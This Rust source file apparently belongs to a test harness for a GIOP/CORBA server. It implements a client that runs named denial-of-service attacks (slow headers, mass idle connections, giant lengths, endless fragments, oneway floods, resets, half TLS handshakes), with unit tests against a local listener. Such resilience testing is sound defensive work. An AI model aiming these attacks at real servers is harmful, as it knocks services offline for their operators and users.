//! A client that attacks: it keeps connections that do what the [`Attack`] says, and mostly makes
//! new ones for those that the server closes, until its standard input ends.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::thread::sleep;
use std::time::Duration;

use isorb_cdr::{Encoder, Text};
use isorb_giop::message::{self, Response};
use rustix::net::sockopt::set_socket_linger;

use crate::descriptors;
use crate::protocol::{exit_at_end_of_input, ready};

/// How long a connect may take.
const TIMEOUT: Duration = Duration::from_secs(5);
/// Octets of a fragment after its header: with it a multiple of eight, as all but the last have.
const FRAGMENT: usize = (8 << 10) - 12;
/// Oneways that are written at once.
const BURST: usize = 64;

/// What the connections do.
#[derive(Clone, Copy, PartialEq, Eq, Debug, clap::ValueEnum)]
pub enum Attack {
    /// A thousand send the header of a message octet by octet.
    SlowHeaders,
    /// Ten thousand come once and send nothing.
    Idle,
    /// Ten thousand come, call once, and stay.
    CalledOnce,
    /// A hundred announce the longest message that the server takes, or one that it does not.
    GiantLengths,
    /// Eight send the fragments of a message that never ends.
    EndlessFragments,
    /// Sixty-four call and do not read the replies.
    UnreadReplies,
    /// Four send oneways without a pause.
    Oneways,
    /// Sixty-four send half a header and reset, again and again.
    Resets,
    /// A thousand send the first octets of the handshake of TLS, one by one.
    HalfHandshakes,
}

impl Attack {
    /// Those on a server without TLS.
    pub const PLAIN: [Attack; 8] = [
        Attack::SlowHeaders,
        Attack::Idle,
        Attack::CalledOnce,
        Attack::GiantLengths,
        Attack::EndlessFragments,
        Attack::UnreadReplies,
        Attack::Oneways,
        Attack::Resets,
    ];

    /// Its name on the command line and in reports.
    pub fn name(self) -> &'static str {
        match self {
            Attack::SlowHeaders => "slow-headers",
            Attack::Idle => "idle",
            Attack::CalledOnce => "called-once",
            Attack::GiantLengths => "giant-lengths",
            Attack::EndlessFragments => "endless-fragments",
            Attack::UnreadReplies => "unread-replies",
            Attack::Oneways => "oneways",
            Attack::Resets => "resets",
            Attack::HalfHandshakes => "half-handshakes",
        }
    }

    fn plan(self, key: &[u8]) -> io::Result<Plan> {
        let call = || request(key, Response::Target, "_non_existent");
        let once = |first| Plan { first, comes_again: false, ..Plan::of(10_000) };
        let slow = |octets: Vec<u8>| Plan {
            again: octets,
            step: 1,
            pause: Duration::from_millis(200),
            ..Plan::of(1_000)
        };
        Ok(match self {
            Attack::SlowHeaders => slow(header(1 << 10, false).to_vec()),
            // The head of a record of half a kilobyte, and of the client's hello in it.
            Attack::HalfHandshakes => slow(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec()),
            Attack::Idle => once(Vec::new()),
            Attack::CalledOnce => once(call()?),
            Attack::GiantLengths => Plan {
                first: header(16 << 20, false).to_vec(),
                other: header(u32::MAX, false).to_vec(),
                pause: Duration::from_millis(1),
                ..Plan::of(100)
            },
            Attack::EndlessFragments => {
                let mut first = request(key, Response::Target, "_non_existent")?;
                first[6] |= 2;
                first.resize(first.len().next_multiple_of(8), 0);
                let length = first.len() as u32 - 12;
                first[8..12].copy_from_slice(&length.to_le_bytes());
                let mut again = header(FRAGMENT as u32, true).to_vec();
                // The number of the request.
                again.extend(1u32.to_le_bytes());
                again.resize(12 + FRAGMENT, 0);
                Plan { first, again, ..Plan::of(8) }
            }
            Attack::UnreadReplies => Plan { again: call()?.repeat(BURST), reads: false, ..Plan::of(64) },
            Attack::Oneways => {
                let oneway = request(key, Response::None, "_non_existent")?;
                Plan { again: oneway.repeat(BURST), ..Plan::of(4) }
            }
            Attack::Resets => Plan { first: header(64, false)[..6].to_vec(), resets: true, ..Plan::of(64) },
        })
    }
}

/// What each connection of an attack does.
struct Plan {
    connections: usize,
    /// Sent at first.
    first: Vec<u8>,
    /// Sent at first by every second connection, if it is another thing.
    other: Vec<u8>,
    /// Sent again and again, whole, since otherwise the server would see another thing.
    again: Vec<u8>,
    /// Octets of `again` that are written at once; 0 for as many as the socket takes.
    step: usize,
    reads: bool,
    /// Ends each connection by a reset at once.
    resets: bool,
    /// Makes a new connection for one that the server has closed.
    comes_again: bool,
    /// After a round over all connections.
    pause: Duration,
}

impl Plan {
    fn of(connections: usize) -> Plan {
        Plan {
            connections,
            first: Vec::new(),
            other: Vec::new(),
            again: Vec::new(),
            step: 0,
            reads: true,
            resets: false,
            comes_again: true,
            pause: Duration::from_millis(if connections > 1_000 { 20 } else { 0 }),
        }
    }
}

/// The octets of a request without arguments.
///
/// # Errors
/// What the encoder refuses.
pub fn request(key: &[u8], response: Response, operation: &str) -> io::Result<Vec<u8>> {
    let mut e = Encoder::new(Vec::new(), Text::DEFAULT);
    message::write_request(&mut e, 1, response, key, operation, &[]);
    let mut request = e.finish().map_err(|(error, _)| io::Error::other(error.to_string()))?;
    message::finish_header(&mut request).map_err(|error| io::Error::other(error.to_string()))?;
    Ok(request.pieces().collect::<Vec<_>>().concat())
}

/// The header of a request, or of a fragment that others follow, with this length.
fn header(length: u32, fragment: bool) -> [u8; 12] {
    let mut header = *b"GIOP\x01\x02\x01\x00\x00\x00\x00\x00";
    header[8..].copy_from_slice(&length.to_le_bytes());
    if fragment {
        (header[6], header[7]) = (3, 7);
    }
    header
}

/// Arguments of the attacker.
#[derive(clap::Args, Debug)]
pub struct AttackArgs {
    attack: Attack,
    /// The server's address with its port
    address: SocketAddr,
    /// The object's key, in hexadecimal digits
    #[arg(default_value = "")]
    key: String,
}

/// The octets that hexadecimal digits stand for.
///
/// # Errors
/// Something else than digits, or an odd number of them.
pub fn octets_of(digits: &str) -> io::Result<Vec<u8>> {
    let pair = |at| digits.get(at..at + 2).and_then(|pair| u8::from_str_radix(pair, 16).ok());
    let octets: Option<Vec<u8>> = (0..digits.len()).step_by(2).map(pair).collect();
    octets.ok_or(ErrorKind::InvalidInput.into())
}

/// Attacks until standard input ends.
///
/// # Errors
/// Wrong arguments.
pub fn attack(args: &AttackArgs) -> io::Result<()> {
    descriptors::raise()?;
    let plan = args.attack.plan(&octets_of(&args.key)?)?;
    exit_at_end_of_input();
    ready("")?;
    let mut connections: Vec<Option<One>> = Vec::new();
    connections.resize_with(plan.connections, || None);
    for round in 0_u64.. {
        for (number, place) in connections.iter_mut().enumerate() {
            let goes_on = match place {
                Some(one) => one.go_on(&plan),
                None if round > 0 && !plan.comes_again => true,
                None => {
                    let first =
                        if number % 2 == 1 && !plan.other.is_empty() { &plan.other } else { &plan.first };
                    *place = One::connect(args.address, first).ok();
                    true
                }
            };
            if !goes_on {
                *place = None;
            }
        }
        sleep(plan.pause);
    }
    Ok(())
}

struct One {
    stream: TcpStream,
    /// Octets of `again` that were sent.
    sent: usize,
}

impl One {
    fn connect(address: SocketAddr, first: &[u8]) -> io::Result<One> {
        let mut stream = TcpStream::connect_timeout(&address, TIMEOUT)?;
        stream.set_nodelay(true)?;
        stream.write_all(first)?;
        stream.set_nonblocking(true)?;
        Ok(One { stream, sent: 0 })
    }

    /// Sends and reads what it can. Returns false when it is over: the server has closed, or it
    /// resets.
    fn go_on(&mut self, plan: &Plan) -> bool {
        if plan.resets {
            // It does not close in order when it is dropped.
            return set_socket_linger(&self.stream, Some(Duration::ZERO)).is_err();
        }
        if !plan.again.is_empty() {
            let end = if plan.step == 0 { plan.again.len() } else { self.sent + plan.step };
            match self.stream.write(&plan.again[self.sent..end.min(plan.again.len())]) {
                Ok(count) => self.sent = (self.sent + count) % plan.again.len(),
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => return false,
            }
        }
        if !plan.reads {
            return true;
        }
        let mut octets = [0; 4096];
        loop {
            match self.stream.read(&mut octets) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) => return error.kind() == ErrorKind::WouldBlock,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::TcpListener;

    #[test]
    fn each_attack_sends_what_its_name_says() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        for attack in [&Attack::PLAIN[..], &[Attack::HalfHandshakes]].concat() {
            let plan = attack.plan(b"key").unwrap();
            let mut one = One::connect(address, &plan.first).unwrap();
            assert_eq!(one.go_on(&plan), attack != Attack::Resets, "{attack:?}");
            let (mut server, _) = listener.accept().unwrap();
            let expected = plan.first.len() + if plan.step == 1 { 1 } else { plan.again.len() };
            let mut octets = vec![0; expected];
            server.read_exact(&mut octets).unwrap();
            assert!(octets.starts_with(&plan.first), "{attack:?}");
            drop(server);
            // Its end is seen.
            while plan.reads && !plan.resets && one.go_on(&plan) {}
        }
    }

    #[test]
    fn digits_that_are_none_are_refused() {
        assert_eq!(octets_of("00ff").unwrap(), [0, 255]);
        assert!(["x", "0", "0g", "é"].iter().all(|digits| octets_of(digits).is_err()));
    }
}
